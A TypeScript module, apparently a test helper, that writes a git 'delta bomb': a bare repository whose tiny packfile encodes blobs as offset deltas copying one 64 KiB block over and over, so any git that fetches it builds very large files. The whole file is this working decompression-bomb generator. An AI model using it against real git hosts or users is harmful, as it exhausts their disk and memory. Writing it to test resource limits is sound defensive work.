import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { crc32, deflateSync } from 'node:zlib'

/**
 * Small packs with large files: each file is a delta that copies one block again and again. This program writes them
 * byte by byte, since git would build each file to make the pack.
 */

export interface DeltaBomb {
  /** size of each file: rounded down to 64 KiB, and 100 bytes more */
  readonly fileBytes: number
  /** number of files, which differ in their last bytes; default: 1 */
  readonly files?: number
  /** branch that gets the commit; default: `main` */
  readonly branch?: string
}

export interface PackedBomb {
  readonly commit: string
  readonly packBytes: number
}

interface Entry {
  readonly oid: Buffer
  readonly at: number
  readonly crc: number
}

const blockBytes = 64 * 1024
const types = { commit: 1, tree: 2, blob: 3, offsetDelta: 6 } as const
const person = 'Mallory <mallory@example.com> 1 +0000'

/**
 * Makes a bare repository at `path` if there is none, and sets a branch to a commit with such files. Any git that
 * fetches it builds each of them.
 */
export async function writeDeltaBomb(
  path: string,
  { fileBytes, files = 1, branch = 'main' }: DeltaBomb,
): Promise<PackedBomb> {
  await promisify(execFile)('git', ['init', '--quiet', '--bare', '--initial-branch=main', path])
  const pack = new Pack()
  const block = Buffer.alloc(blockBytes)
  const base = pack.add('blob', block)
  const entries: (readonly [name: string, oid: Buffer])[] = [['block', base.oid]]
  const copies = Math.floor(fileBytes / blockBytes)
  for (let i = 0; i < files; i++) {
    const end = Buffer.from(String(i).padStart(100, '.'))
    entries.push([`file-${String(i).padStart(6, '0')}`, pack.addDelta(base, { block, copies, end })])
  }
  const listed = entries.flatMap(([name, oid]) => [Buffer.from(`100644 ${name}\0`), oid])
  const tree = pack.add('tree', Buffer.concat(listed)).oid.toString('hex')
  const text = `tree ${tree}\nauthor ${person}\ncommitter ${person}\n\nbomb\n`
  const commit = pack.add('commit', Buffer.from(text)).oid.toString('hex')
  const packBytes = await pack.write(join(path, 'objects', 'pack'))
  await mkdir(join(path, 'refs', 'heads'), { recursive: true })
  await writeFile(join(path, 'refs', 'heads', branch), `${commit}\n`)
  return { commit, packBytes }
}

class Pack {
  readonly #entries: Entry[] = []
  readonly #parts: Buffer[] = []
  #bytes = 12 // the pack's header

  add(type: 'commit' | 'tree' | 'blob', content: Buffer): Entry {
    const oid = oidOf(type, content.length, [content])
    return this.#put(oid, [entryHead(types[type], content.length), deflateSync(content)])
  }

  /** Adds a blob: copies of the block, and its end. @returns its object id */
  addDelta(base: Entry, { block, copies, end }: { block: Buffer; copies: number; end: Buffer }): Buffer {
    const bytes = copies * block.length + end.length
    // 0x80: copy from offset 0, and without a size 64 KiB
    const steps = Buffer.concat([Buffer.alloc(copies, 0x80), Buffer.of(end.length), end])
    const delta = Buffer.concat([varint(block.length), varint(bytes), steps])
    const oid = oidOf('blob', bytes, [...Array<Buffer>(copies).fill(block), end])
    const back = distance(this.#bytes - base.at)
    this.#put(oid, [entryHead(types.offsetDelta, delta.length), back, deflateSync(delta, { level: 9 })])
    return oid
  }

  /** Writes the pack with its index. @returns bytes of the pack */
  async write(folder: string): Promise<number> {
    const head = Buffer.concat([Buffer.from('PACK'), uint32(2), uint32(this.#entries.length)])
    const body = Buffer.concat([head, ...this.#parts])
    const sum = sha1(body)
    const name = join(folder, `pack-${sum.toString('hex')}`)
    await writeFile(`${name}.pack`, Buffer.concat([body, sum]))
    await writeFile(`${name}.idx`, indexOf(this.#entries, sum))
    return body.length + sum.length
  }

  #put(oid: Buffer, parts: readonly Buffer[]): Entry {
    const bytes = Buffer.concat(parts)
    const entry = { oid, at: this.#bytes, crc: crc32(bytes) }
    this.#entries.push(entry)
    this.#parts.push(bytes)
    this.#bytes += bytes.length
    return entry
  }
}

/** Index of a pack, in version 2. */
function indexOf(entries: readonly Entry[], sum: Buffer): Buffer {
  const sorted = entries.toSorted((one, other) => Buffer.compare(one.oid, other.oid))
  const upTo = (first: number) => sorted.filter(({ oid }) => (oid[0] as number) <= first).length
  const index = Buffer.concat([
    Buffer.of(0xff, 0x74, 0x4f, 0x63),
    uint32(2),
    ...Array.from({ length: 256 }, (_, first) => uint32(upTo(first))),
    ...sorted.map(({ oid }) => oid),
    ...sorted.map(({ crc }) => uint32(crc)),
    ...sorted.map(({ at }) => uint32(at)),
    sum,
  ])
  return Buffer.concat([index, sha1(index)])
}

function oidOf(type: string, bytes: number, parts: readonly Buffer[]): Buffer {
  const hash = createHash('sha1').update(`${type} ${bytes}\0`)
  for (const part of parts) hash.update(part)
  return hash.digest()
}

const sha1 = (bytes: Buffer) => createHash('sha1').update(bytes).digest()

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

/** Encodes seven bits a byte, the lowest first. */
function varint(value: number): Buffer {
  const bytes: number[] = []
  let rest = value
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128)
  return Buffer.from([...bytes, rest])
}

/** Encodes type and size before an object in a pack: four bits of the size, then seven a byte. */
function entryHead(type: number, bytes: number): Buffer {
  const rest = Math.floor(bytes / 16)
  const first = (type << 4) | (bytes % 16)
  return rest === 0 ? Buffer.of(first) : Buffer.concat([Buffer.of(first | 128), varint(rest)])
}

/**
 * Encodes the distance back to the base of a delta: seven bits a byte, the highest first, each but the last counted
 * from 1.
 */
function distance(value: number): Buffer {
  const bytes = [value % 128]
  for (let rest = Math.floor(value / 128); rest > 0; rest = Math.floor(rest / 128)) {
    rest--
    bytes.unshift((rest % 128) | 128)
  }
  return Buffer.from(bytes)
}
